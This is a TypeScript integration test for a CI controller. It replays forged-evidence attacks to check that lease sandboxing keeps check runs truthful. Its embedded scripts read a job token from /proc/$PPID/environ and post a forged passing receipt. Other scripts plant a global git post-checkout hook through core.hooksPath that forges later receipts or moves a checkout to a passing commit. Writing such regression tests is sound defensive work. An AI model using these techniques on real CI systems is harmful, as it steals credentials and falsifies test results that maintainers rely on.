import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createClient } from '@libsql/client';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type HostEvidence, parseHostEvidence } from '../../core/protocol/host-evidence.ts';
import { parseStoredReceipts } from '../../core/protocol/receipt.ts';
import { type GitServer, startGitServer } from '../../scripts/sim/doubles/git-http-server.ts';
import {
  type JobPlan,
  queuedId,
  REPO,
  type SparkSystem,
  startSystem,
} from '../../scripts/sim/harness/index.ts';

/**
 * The two ways an attacker's run on main wrote the evidence of a lease (ADR 0160), replayed
 * against the whole system — the controller and the agent as separate processes, the job as its
 * own runner user in its lease's sandbox through the real helper (ADR 0155; the host set up as
 * docs/agent.md "Install" says), the fake GitHub — and each must end with a truthful check run:
 *
 * 1. the PR's `spark-test.sh` reads `SPARK_LEASE_TOKEN` from `/proc/$PPID/environ` of the
 *    spark-test action and posts a forged "passed" receipt (fake toolchain, fake task mode, fake
 *    "clone token revoked"), while its real tests fail: the forgery is taken as the job's report,
 *    and the check fails naming the contradiction with the host's evidence;
 * 2. a PR's job plants a global git hook (`core.hooksPath` in the runner user's home) meant to
 *    run at a later lease's checkout and forge that lease's receipt (2) or move its checkout to a
 *    passing commit (2b). On main before ADR 0155 the home outlived the lease and the hook ran;
 *    in the sandbox each lease has a fresh home, so the hook works in its own lease (the planter
 *    proves it) and never runs in the later one: that lease's receipts are its own, and its check
 *    is the plain failure of its own tests.
 *
 * The check's verdict comes from the host's evidence (the agent's preflight, the runner's own job
 * result, the commit in the work tree), so no forged receipt can turn it green either way.
 */

const plans = new Map<string, Partial<JobPlan>>();
let sys: SparkSystem;
let git: GitServer;
let gitRoot: string;

/** Forges a passed receipt (and tries to write host evidence) with the job token of the lease it runs in. */
const FORGER = `
const fs = require('node:fs');
const [source, variant] = process.argv.slice(2);
// the token from /proc/<pid>/environ of the parent (the attack), or from the own environment (a git hook)
const environ = source === 'self' ? process.env : Object.fromEntries(
  fs.readFileSync('/proc/' + source + '/environ', 'utf8').split('\\0').filter(Boolean)
    .map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]));
const e = process.env;
const head = e.SPARK_HEAD_SHA || require('node:child_process').execFileSync('git', ['rev-parse', 'HEAD'], { encoding: 'utf8' }).trim();
const url = e.SPARK_CONTROLLER_URL.replace(/\\/+$/, '');
const toolchain = { nvcc: 'release 99.9 (forged)', cargo: '9.9.9 (forged)', source: head };
const body = {
  version: 1, reservationId: e.SPARK_RESERVATION_ID, hostId: e.SPARK_HOST_ID,
  fencingToken: Number(environ.SPARK_FENCING_TOKEN), headSha: head, repo: '${REPO}',
  suite: 'smoke', topology: 'single', phases: [{ suite: 'smoke', exitCode: 0, durationMs: 1000 }],
  startedAt: new Date(Date.now() - 1000).toISOString(), endedAt: new Date().toISOString(),
  result: 'passed', exitCode: 0, log: { sha256: '0'.repeat(64), bytes: 0, lines: 0 },
  toolchain: variant === 'agent-words' ? { ...toolchain, cloneToken: 'revoked: HTTP 204 (forged)' } : toolchain,
  ...(variant === 'agent-words' ? { mode: 'task' } : {}),
};
const auth = { 'content-type': 'application/json', authorization: 'Bearer ' + environ.SPARK_LEASE_TOKEN };
(async () => {
  const r = await fetch(url + '/api/v1/leases/' + e.SPARK_RESERVATION_ID + '/receipt', { method: 'POST', headers: auth, body: JSON.stringify(body) });
  console.log('forged receipt (' + variant + '): HTTP ' + r.status);
  // the job token as the agent's: host evidence is written by the agent API only
  const h = await fetch(url + '/agent/v1/report', { method: 'POST', headers: auth, body: JSON.stringify({
    type: 'runner_exited', fencingToken: body.fencingToken, runnerName: 'x', exitCode: 0, lastLines: [] }) });
  console.log('host evidence with the job token: HTTP ' + h.status);
})();
`;

/** The PR's spark-test.sh of path 1: forge from the action's environ, then fail the real tests. */
const ENVIRON_ATTACK = `#!/bin/bash
node - "$PPID" agent-words <<'JS'
${FORGER}
JS
node - "$PPID" plain <<'JS'
${FORGER}
JS
echo "running cargo test --release --test cuda_smoke"
echo "FAILED gemv: max abs error 0.42 > 1e-3"
exit 1
`;

/**
 * The first PR of path 2: plants a global git hook in the runner user's home, proves it runs at a
 * checkout in its own lease, and passes its tests. The hook writes what it did to `log` in the
 * system's marker dir (writable by every lease, outliving it) — the test's way to see whether it
 * ever ran in a later lease; when it runs with a job token in its environment (a later lease's
 * checkout), it forges that lease's receipt.
 */
const PLANT_HOOK = (log: string) => `#!/bin/bash
set -e
mkdir -p "$HOME/.hooks"
cat > "$HOME/.hooks/post-checkout" <<'HOOK'
#!/bin/bash
echo "hook ran in $SPARK_RESERVATION_ID (home $HOME)" >> ${log}
[ -n "\${SPARK_LEASE_TOKEN:-}" ] || exit 0
node - self plain >> ${log} 2>&1 <<'JS'
${FORGER}
JS
exit 0
HOOK
chmod +x "$HOME/.hooks/post-checkout"
git config --global core.hooksPath "$HOME/.hooks"
# the hook works: a checkout in this lease runs it (the script has no job token: it only logs)
git -c advice.detachedHead=false checkout -q HEAD
echo "ok 1 - cuda kernels match reference"
exit 0
`;

/**
 * A bolder planter: its hook moves every later checkout back to \`to\`, whose tests pass, so a
 * later PR's failing tests never run (the nested checkout skips the hook). It proves the hook in
 * its own lease without moving its own checkout.
 */
const MOVE_HEAD = (to: string, log: string) => `#!/bin/bash
set -e
mkdir -p "$HOME/.hooks"
cat > "$HOME/.hooks/post-checkout" <<'HOOK'
#!/bin/bash
[ -n "\${SPARK_HOOK_NESTED:-}" ] && exit 0
echo "hook ran in $SPARK_RESERVATION_ID (home $HOME)" >> ${log}
[ -n "\${SPARK_HOOK_SELF_TEST:-}" ] && exit 0
SPARK_HOOK_NESTED=1 git -c advice.detachedHead=false checkout -q --force ${to}
echo "moved HEAD to ${to}" >> ${log}
HOOK
chmod +x "$HOME/.hooks/post-checkout"
git config --global core.hooksPath "$HOME/.hooks"
SPARK_HOOK_SELF_TEST=1 git -c advice.detachedHead=false checkout -q HEAD
exit 0
`;

/** The later, unrelated PR of path 2: its tests fail. */
const FAILING_TESTS = `#!/bin/bash
echo "FAILED rmsnorm: mismatch at index 17"
exit 1
`;

beforeAll(async () => {
  gitRoot = mkdtempSync(join(tmpdir(), 'spark-forged-git-'));
  git = await startGitServer(gitRoot, () => true);
  // the host as docs/agent.md "Install" sets it up: a runner user (with a home under /var/lib),
  // each lease in its own sandbox through the real helper
  sys = await startSystem({
    hosts: [{ id: 'spark-2' }],
    plan: (j) => plans.get(j.headSha) ?? {},
    runnerUsers: true,
  });
}, 120_000);

afterEach(async (ctx) => {
  if (ctx.task.result?.state === 'fail' && sys) console.error(await sys.diagnostics());
});

afterAll(async () => {
  if (sys) {
    expect(sys.gh.violations).toEqual([]);
    await sys.close();
  }
  await git?.close();
  rmSync(gitRoot, { recursive: true, force: true });
});

/** Every conclusion the controller ever sent for a reservation's check run (creates and updates). */
function conclusionsSent(rid: string): unknown[] {
  const id = sys.checkRun(rid)?.id;
  return sys.gh
    .calls('POST', /\/check-runs$/)
    .concat(sys.gh.calls('PATCH', new RegExp(`/check-runs/${id}$`)))
    .filter((c) => (c.body as { external_id?: string }).external_id === rid || c.path.endsWith(`/${id}`))
    .map((c) => (c.body as { conclusion?: string }).conclusion ?? null);
}

/** The host evidence the agent reported, read from the ledger file as stored. */
async function storedEvidence(rid: string): Promise<HostEvidence | null> {
  const db = createClient({ url: `file:${join(sys.dir, 'spark.db')}` });
  try {
    const r = await db.execute({
      sql: 'SELECT evidence_json FROM host_evidence WHERE reservation_id = ?',
      args: [rid],
    });
    return parseHostEvidence((r.rows[0]?.evidence_json as string | undefined) ?? null);
  } finally {
    db.close();
  }
}

/** The log of the reservation's job as GitHub keeps it (the lease's own files go with the lease). */
function jobLog(rid: string): string {
  const job = sys.jobs.find((j) => j.reservationId === rid);
  if (!job) throw new Error(`no job ran for ${rid}`);
  return sys.jobLog(job.id);
}

/** What a planted hook logged (the marker dir outlives every lease). */
function hookLog(name: string): string {
  const f = join(sys.markerDir, name);
  return existsSync(f) ? readFileSync(f, 'utf8') : '';
}

/** The runner user's own home (outside any lease): a lease's writes to $HOME never reach it. */
function runnerHome(): string {
  return sys.runnerUsers['spark-2']!.home;
}

/** The receipt stored for a reservation's host: the one the controller took. */
async function storedReceipt(rid: string) {
  return parseStoredReceipts((await sys.reservation(rid)).receiptJson)?.byHost['spark-2'] ?? null;
}

describe('forged evidence (ADR 0160) against the lease sandbox (ADR 0155): the check stays truthful', {
  timeout: 240_000,
}, () => {
  it("path 1: the PR's script reads the job token from /proc/$PPID/environ and posts a passed receipt; its tests fail → the check fails and says the receipt contradicts the runner", async () => {
    const sha = 'e'.repeat(40);
    plans.set(sha, { script: ENVIRON_ATTACK });
    sys.openPr(11, { sha });
    const rid = queuedId(await sys.label(11, 'spark-test'));
    const done = await sys.waitReservation(rid, ['done', 'failed']);
    expect(done).toMatchObject({ status: 'failed', outcome: 'failed' });
    const log = jobLog(rid);
    // the attack runs in the sandbox too (its parent, the action, is the same runner user): the
    // token was readable, the plain forgery was taken …
    expect(log).toContain('forged receipt (plain): HTTP 201');
    // … but a job cannot claim the agent's words (task mode, a revoked clone token) …
    expect(log).toContain('forged receipt (agent-words): HTTP 409');
    // … and its token writes no host evidence
    expect(log).toContain('host evidence with the job token: HTTP 401');
    expect(log).toContain('FAILED gemv: max abs error 0.42 > 1e-3');
    expect((await storedReceipt(rid))!.toolchain.nvcc).toBe('release 99.9 (forged)');

    // the host's own evidence: the runner printed Failed, the checkout (read from the lease's
    // copy-on-write runner dir) is at the admitted commit
    const e = (await storedEvidence(rid))!;
    expect(e.preflight?.ok).toBe(true);
    expect(e.runner.result).toBe('Failed');
    expect(e.workTrees).toContainEqual(expect.objectContaining({ path: 'butter/butter', sha }));

    const check = await sys.waitCheck(rid, 'Spark test failed — evidence disagrees');
    expect(check.conclusion).toBe('failure');
    expect(check.output.summary).toContain(
      "**Contradiction:** the job's receipt from Spark 2 says passed, but the runner reported its job Failed.",
    );
    expect(check.output.summary).toContain(
      'runner result Failed; work tree at `eeeeeee` (the admitted commit)',
    );
    expect(check.output.summary).toContain('Reported by the job (detail only):');
    expect(check.output.summary).not.toContain('evidence receipt recorded');
    expect(conclusionsSent(rid)).not.toContain('success');
    await sys.waitHostPhase('spark-2', ['idle']);
  });

  it("path 2: a hook planted by one PR's job (it runs in that lease) never runs in a later lease, which has a fresh home → the later PR's receipts are its own and its check fails on its own tests", async () => {
    const log = join(sys.markerDir, 'path2-hook.log');
    const clone = git.cloneUrl(REPO);
    const planter = await git.commit(REPO, {
      'scripts/ci/spark-test.sh': PLANT_HOOK(log),
      'README.md': 'one\n',
    });
    plans.set(planter, { checkout: { url: clone } });
    sys.openPr(21, { sha: planter });
    const r1 = queuedId(await sys.label(21, 'spark-test'));
    // the planting PR itself passes, on the host's evidence (real git checkout, real runner user)
    const c1 = await sys.waitCheck(r1, 'Spark test passed — evidence receipt recorded');
    expect(c1.conclusion).toBe('success');
    expect((await storedEvidence(r1))?.workTrees).toContainEqual(
      expect.objectContaining({ path: 'butter/butter', sha: planter }),
    );
    expect(jobLog(r1)).toContain('ok 1 - cuda kernels match reference');
    await sys.waitHostPhase('spark-2', ['idle']);
    // the hook was planted and works: it ran at the planter's own checkout, in the lease's home …
    expect(hookLog('path2-hook.log')).toMatch(
      new RegExp(`^hook ran in ${r1} \\(home ${runnerHome()}\\)$`, 'm'),
    );
    // … which was the lease's own: the runner user's home on the host never got it
    expect(existsSync(join(runnerHome(), '.hooks'))).toBe(false);
    expect(existsSync(join(runnerHome(), '.gitconfig'))).toBe(false);

    const victim = await git.commit(REPO, {
      'scripts/ci/spark-test.sh': FAILING_TESTS,
      'README.md': 'two\n',
    });
    plans.set(victim, { checkout: { url: clone } });
    sys.openPr(22, { sha: victim });
    const r2 = queuedId(await sys.label(22, 'spark-test'));
    const done = await sys.waitReservation(r2, ['done', 'failed']);
    expect(done).toMatchObject({ status: 'failed', outcome: 'failed' });
    // the hook never ran in the later lease (a fresh home: no core.hooksPath), so nothing forged
    expect(hookLog('path2-hook.log')).not.toContain(r2);
    expect(hookLog('path2-hook.log')).not.toContain('forged receipt');
    // the later lease's receipt is its own: the runner's, saying failed
    const receipt = (await storedReceipt(r2))!;
    expect(receipt).toMatchObject({ result: 'failed', headSha: victim });
    expect(receipt.toolchain.nvcc).toBeUndefined();
    expect(jobLog(r2)).toContain('FAILED rmsnorm: mismatch at index 17');
    const e = (await storedEvidence(r2))!;
    expect(e.runner.result).toBe('Failed');
    expect(e.workTrees).toContainEqual(expect.objectContaining({ path: 'butter/butter', sha: victim }));
    // GitHub's failure may show first; the check's last word comes with the host's evidence
    const check = await sys.waitCheck(r2, `Spark test failed — exact SHA ${victim.slice(0, 7)}`);
    expect(check.conclusion).toBe('failure');
    expect(check.output.summary).not.toContain('Contradiction');
    expect(check.output.summary).not.toContain('evidence receipt recorded');
    expect(conclusionsSent(r2)).not.toContain('success');
    await sys.waitHostPhase('spark-2', ['idle']);
  });

  it('path 2b: a hook planted to move a later checkout to a passing commit never runs in the later lease → its work tree is at the admitted commit, its own tests fail, and so does the check', async () => {
    const log = join(sys.markerDir, 'path2b-hook.log');
    const clone = git.cloneUrl(REPO);
    // the commit the hook moves to is committed first, then the planter that names it
    const passing = await git.commit(REPO, {
      'scripts/ci/spark-test.sh': '#!/bin/bash\necho ok\nexit 0\n',
      'README.md': 'three\n',
    });
    const planter = await git.commit(REPO, {
      'scripts/ci/spark-test.sh': MOVE_HEAD(passing, log),
      'README.md': 'four\n',
    });
    plans.set(planter, { checkout: { url: clone } });
    sys.openPr(31, { sha: planter });
    const r1 = queuedId(await sys.label(31, 'spark-test'));
    await sys.waitCheck(r1, 'Spark test passed — evidence receipt recorded');
    // the planter's own checkout stayed where it was (its self-test only logs)
    expect((await storedEvidence(r1))?.workTrees).toContainEqual(
      expect.objectContaining({ path: 'butter/butter', sha: planter }),
    );
    await sys.waitHostPhase('spark-2', ['idle']);
    expect(hookLog('path2b-hook.log')).toContain(`hook ran in ${r1}`);
    expect(existsSync(join(runnerHome(), '.hooks'))).toBe(false);

    const victim = await git.commit(REPO, {
      'scripts/ci/spark-test.sh': FAILING_TESTS,
      'README.md': 'five\n',
    });
    plans.set(victim, { checkout: { url: clone } });
    sys.openPr(32, { sha: victim });
    const r2 = queuedId(await sys.label(32, 'spark-test'));
    const done = await sys.waitReservation(r2, ['done', 'failed']);
    // never a pass for the admitted commit
    expect(done).toMatchObject({ status: 'failed', outcome: 'failed' });
    expect(hookLog('path2b-hook.log')).not.toContain(r2);
    expect(hookLog('path2b-hook.log')).not.toContain('moved HEAD');
    // the host reads the work tree at the admitted commit, where the job's own tests failed
    const e = (await storedEvidence(r2))!;
    expect(e.runner.result).toBe('Failed');
    expect(e.workTrees).toContainEqual(expect.objectContaining({ path: 'butter/butter', sha: victim }));
    expect(jobLog(r2)).toContain('FAILED rmsnorm: mismatch at index 17');
    expect((await storedReceipt(r2))!).toMatchObject({ result: 'failed', headSha: victim });
    const check = await sys.waitCheck(r2, `Spark test failed — exact SHA ${victim.slice(0, 7)}`);
    expect(check.conclusion).toBe('failure');
    expect(check.output.summary).not.toContain('Contradiction');
    expect(conclusionsSent(r2)).not.toContain('success');
  });
});
